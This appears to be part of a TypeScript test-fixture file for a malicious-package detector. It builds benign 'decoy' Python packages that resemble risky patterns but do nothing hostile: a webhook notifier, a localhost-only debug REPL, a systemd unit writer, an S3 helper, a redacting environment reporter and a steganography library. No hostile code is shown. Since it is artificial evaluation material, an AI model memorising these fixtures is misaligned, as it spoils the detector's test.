    family: 'twin_wallet_local',
    note: '[runtime] generates and checks BIP-39 mnemonics and derives seeds locally; no network code at all.',
    ...pkg('mnemonic_lite', '0.20.1', 'BIP-39 mnemonic generation', {
      'setup.py':
        "from setuptools import setup\nsetup(name='mnemonic_lite', version='0.20.1', packages=['mnemonic_lite'], package_data={'mnemonic_lite': ['english.txt']})\n",
      'mnemonic_lite/__init__.py': py`import hashlib
import os
import secrets

_WORDS = None


def words():
    global _WORDS
    if _WORDS is None:
        with open(os.path.join(os.path.dirname(__file__), 'english.txt')) as f:
            _WORDS = f.read().split()
    return _WORDS


def generate(strength=128):
    ent = secrets.token_bytes(strength // 8)
    h = hashlib.sha256(ent).digest()
    bits = bin(int.from_bytes(ent, 'big'))[2:].zfill(strength) + bin(h[0])[2:].zfill(8)[: strength // 32]
    return ' '.join(words()[int(bits[i:i + 11], 2)] for i in range(0, len(bits), 11))


def to_seed(mnemonic, passphrase=''):
    return hashlib.pbkdf2_hmac('sha512', mnemonic.encode(), ('mnemonic' + passphrase).encode(), 2048)
`,
      'mnemonic_lite/english.txt': 'abandon\nability\nable\nabout\nabove\nabsent\n',
    }),
  },
  {
    id: 'twin-discord-webhook-notifier',
    family: 'twin_webhook_user_config',
    note: '[runtime] posts a build-status message to the Discord webhook URL the user supplies in an environment variable; sends only the message it was given.',
    ...pkg('ci_notify', '1.1.0', 'Send CI status to chat webhooks', {
      'setup.py':
        "from setuptools import setup\nsetup(name='ci_notify', version='1.1.0', packages=['ci_notify'], install_requires=['requests'])\n",
      'ci_notify/__init__.py': py`import os

import requests


def notify(status, url=None):
    url = url or os.environ['CI_NOTIFY_WEBHOOK']
    r = requests.post(url, json={'content': 'Build %s' % status}, timeout=10)
    r.raise_for_status()
`,
    }),
  },
  {
    id: 'twin-entry-point-plugin-loader',
    family: 'twin_plugin_loader',
    note: '[runtime] loads plugins from installed entry points with importlib.metadata; no download, no exec of text.',
    ...pkg('flowkit_core', '0.12.0', 'Composable data-flow pipelines with plugins', {
      'setup.py':
        "from setuptools import setup\nsetup(name='flowkit_core', version='0.12.0', packages=['flowkit_core'])\n",
      'flowkit_core/__init__.py': py`from importlib.metadata import entry_points

REGISTRY = {}


def refresh(group='flowkit.plugins'):
    for ep in entry_points(group=group):
        REGISTRY[ep.name] = ep.load()
    return REGISTRY
`,
    }),
  },
  {
    id: 'twin-embedded-icon-base64',
    family: 'twin_embedded_asset',
    note: '[runtime] a base64-embedded PNG icon decoded into a tkinter PhotoImage; decoded bytes are image data, never executed.',
    ...pkg('tk_trayicon', '0.2.0', 'Tiny tkinter tray icon', {
      'setup.py':
        "from setuptools import setup\nsetup(name='tk_trayicon', version='0.2.0', packages=['tk_trayicon'])\n",
      'tk_trayicon/__init__.py': `import base64\n\nICON_PNG = base64.b64decode('${b64(png())}')\n\n\ndef photo(root):\n    import tkinter\n    return tkinter.PhotoImage(master=root, data=base64.b64encode(ICON_PNG))\n`,
    }),
  },
  {
    id: 'twin-debug-repl-localhost-opt-in',
    family: 'twin_local_socket',
    note: '[runtime] an opt-in debugging REPL that listens on 127.0.0.1 only when the developer calls start(); evaluates lines typed by the local user.',
    ...pkg('peekrepl', '0.1.3', 'Attach a REPL to a running process', {
      'setup.py': "from setuptools import setup\nsetup(name='peekrepl', version='0.1.3', packages=['peekrepl'])\n",
      'peekrepl/__init__.py': py`import code
import socketserver
import threading


class _Handler(socketserver.StreamRequestHandler):
    def handle(self):
        console = code.InteractiveConsole(self.server.namespace)
        self.wfile.write(b'peekrepl> ')
        for line in self.rfile:
            console.push(line.decode().rstrip('\n'))
            self.wfile.write(b'peekrepl> ')


def start(namespace, port=4455):
    srv = socketserver.ThreadingTCPServer(('127.0.0.1', port), _Handler)
    srv.namespace = namespace
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv
`,
    }),
  },
  {
    id: 'twin-systemd-unit-cli-command',
    family: 'twin_service_installer',
    note: '[runtime] a CLI subcommand the user runs explicitly ("install-service") writes a systemd user unit for the package\'s own local daemon and prints how to enable it.',
    ...pkg('syncd_lite', '0.5.0', 'Folder sync daemon', {
      'setup.py':
        "from setuptools import setup\nsetup(name='syncd_lite', version='0.5.0', packages=['syncd_lite'], entry_points={'console_scripts': ['syncd = syncd_lite.cli:main']})\n",
      'syncd_lite/__init__.py': '',
      'syncd_lite/cli.py': py`import os
import sys

UNIT = """[Unit]
Description=syncd folder sync

[Service]
ExecStart=%s -m syncd_lite.daemon
Restart=on-failure

[Install]
WantedBy=default.target
"""


def main(argv=None):
    argv = argv if argv is not None else sys.argv[1:]
    if argv[:1] == ['install-service']:
        d = os.path.expanduser('~/.config/systemd/user')
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, 'syncd.service'), 'w') as f:
            f.write(UNIT % sys.executable)
        print('Wrote syncd.service. Enable it with: systemctl --user enable --now syncd.service')
        return 0
    print('usage: syncd install-service')
    return 2
`,
      'syncd_lite/daemon.py': 'import time\n\nwhile True:\n    time.sleep(60)\n',
    }),
  },
  {
    id: 'twin-boto3-s3-helper',
    family: 'twin_cloud_sdk_local',
    note: "[runtime] uses boto3 default credentials to talk to AWS on the user's behalf (list buckets, upload a file the user names); credentials never leave boto3.",
    ...pkg('s3sync_mini', '0.2.2', 'Minimal S3 folder sync', {
      'setup.py':
        "from setuptools import setup\nsetup(name='s3sync_mini', version='0.2.2', packages=['s3sync_mini'], install_requires=['boto3'])\n",
      's3sync_mini/__init__.py': py`import os

import boto3


def buckets():
    return [b['Name'] for b in boto3.client('s3').list_buckets()['Buckets']]


def push(folder, bucket, prefix=''):
    s3 = boto3.client('s3')
    for root, _, files in os.walk(folder):
        for n in files:
            p = os.path.join(root, n)
            s3.upload_file(p, bucket, prefix + os.path.relpath(p, folder))
`,
    }),
  },
  {
    id: 'twin-doctor-env-report-redacted',
    family: 'twin_env_report_local',
    note: '[runtime] a "doctor" command printing Python, platform and which relevant environment variables are set (values redacted) to the terminal; no network.',
    ...pkg('envdoctor', '1.0.0', 'Diagnose your Python environment', {
      'setup.py':
        "from setuptools import setup\nsetup(name='envdoctor', version='1.0.0', packages=['envdoctor'], entry_points={'console_scripts': ['envdoctor = envdoctor:main']})\n",
      'envdoctor/__init__.py': py`import os
import platform
import sys

WATCH = ('VIRTUAL_ENV', 'PYTHONPATH', 'AWS_PROFILE', 'AWS_ACCESS_KEY_ID', 'OPENAI_API_KEY', 'HTTP_PROXY')


def main():
    print('python   ', sys.version.split()[0], sys.executable)
    print('platform ', platform.platform())
    for k in WATCH:
        print('%-18s %s' % (k, 'set (hidden)' if k in os.environ else 'not set'))
`,
    }),
  },
  {
    id: 'twin-update-check-own-host',
    family: 'twin_update_check',
    note: "[runtime] checks the project's own documented release feed for a newer version once a day (opt-out by env), prints a hint; downloads nothing else and runs nothing.",
    ...pkg('hugo_lint', '0.9.3', 'Lint Hugo front matter', {
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "hugo_lint"\nversion = "0.9.3"\n\n[project.urls]\nHomepage = "https://hugolint.example"\nChangelog = "https://hugolint.example/releases"\n',
      'hugo_lint/__init__.py': py`import json
import os
import time
import urllib.request

__version__ = '0.9.3'
FEED = 'https://hugolint.example/releases/latest.json'
STAMP = os.path.expanduser('~/.cache/hugo_lint/last_check')


def check_for_update():
    if os.environ.get('HUGO_LINT_NO_UPDATE_CHECK'):
        return None
    if os.path.exists(STAMP) and time.time() - os.path.getmtime(STAMP) < 86400:
        return None
    os.makedirs(os.path.dirname(STAMP), exist_ok=True)
    open(STAMP, 'w').close()
    try:
        latest = json.load(urllib.request.urlopen(FEED, timeout=2))['version']
    except (OSError, ValueError, KeyError):
        return None
    if latest != __version__:
        print('hugo_lint %s is available (you have %s)' % (latest, __version__))
    return latest
`,
    }),
  },
  {
    id: 'twin-marshal-bytecode-cache',
    family: 'twin_marshal_cache',
    note: '[runtime] a template engine caching its own compiled templates as marshalled code objects in the user cache (like a bytecode cache), keyed by a hash of the template source.',
    ...pkg('tinytmpl', '1.3.0', 'A tiny template engine', {
      'setup.py': "from setuptools import setup\nsetup(name='tinytmpl', version='1.3.0', packages=['tinytmpl'])\n",
      'tinytmpl/__init__.py': py`import hashlib
import marshal
import os
import re

CACHE = os.path.join(os.path.expanduser('~/.cache'), 'tinytmpl')


def _to_python(src):
    parts = re.split(r'\{\{\s*(\w+)\s*\}\}', src)
    out = ['def render(ctx):', '    out = []']
    for i, p in enumerate(parts):
        out.append('    out.append(%s)' % ('str(ctx[%r])' % p if i % 2 else repr(p)))
    out.append("    return ''.join(out)")
    return '\n'.join(out)


def compile_template(src):
    key = hashlib.sha256(src.encode()).hexdigest()
    path = os.path.join(CACHE, key + '.bin')
    if os.path.exists(path):
        with open(path, 'rb') as f:
            code = marshal.load(f)
    else:
        code = compile(_to_python(src), '<template %s>' % key[:8], 'exec')
        os.makedirs(CACHE, exist_ok=True)
        with open(path, 'wb') as f:
            marshal.dump(code, f)
    ns = {}
    exec(code, ns)
    return ns['render']
`,
    }),
  },
  {
    id: 'twin-lsb-stego-library',
    family: 'twin_steganography_lib',
    note: '[runtime] a steganography library: hides and reveals text in image pixels on request, returns the text; never executes what it decodes. Ships a sample image.',
    ...pkg('stegano_lite', '0.4.0', 'Hide text in images (LSB)', {
      'setup.py':
        "from setuptools import setup\nsetup(name='stegano_lite', version='0.4.0', packages=['stegano_lite'], install_requires=['pillow'], package_data={'stegano_lite': ['sample.png']})\n",
      'stegano_lite/__init__.py': py`from PIL import Image


def hide(src, message, dst):
    img = Image.open(src).convert('RGB')
    bits = ''.join('{:08b}'.format(b) for b in message.encode() + b'\x00')
    px = list(img.getdata())
    out = []
    for i, (r, g, b) in enumerate(px):
        if i < len(bits):
            r = (r & ~1) | int(bits[i])
        out.append((r, g, b))
    img.putdata(out)
    img.save(dst)


def reveal(src):
    img = Image.open(src).convert('RGB')
    bits = ''.join(str(r & 1) for r, _, _ in img.getdata())
    data = bytearray()
    for i in range(0, len(bits), 8):
        byte = int(bits[i:i + 8], 2)
        if byte == 0:
            break
        data.append(byte)
    return data.decode(errors='replace')
`,
      'stegano_lite/sample.png': png(),
    }),
  },
];

/** Base32 (RFC 4648, with padding) for the lambda-chain variant. */
function base32(s: string): string {
  const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  const bytes = Buffer.from(s);
  let bits = 0;
  let value = 0;
  let out = '';
  for (const b of bytes) {
    value = (value << 8) | b;
    bits += 8;
    while (bits >= 5) {
      out += A[(value >>> (bits - 5)) & 31];
      bits -= 5;
    }
    value &= (1 << bits) - 1;
  }
  if (bits > 0) out += A[(value << (5 - bits)) & 31];
  while (out.length % 8) out += '=';
  return out;
}

/** The sdist: a .tar.gz whose entries sit under `<name>-<version>/`. */
export function pypiSdist(v: PypiVariant): Buffer {
  const root = `${v.name}-${v.version}`;
  return buildTgz(Object.entries(v.files).map(([p, data]) => ({ path: `${root}/${p}`, data })));
}
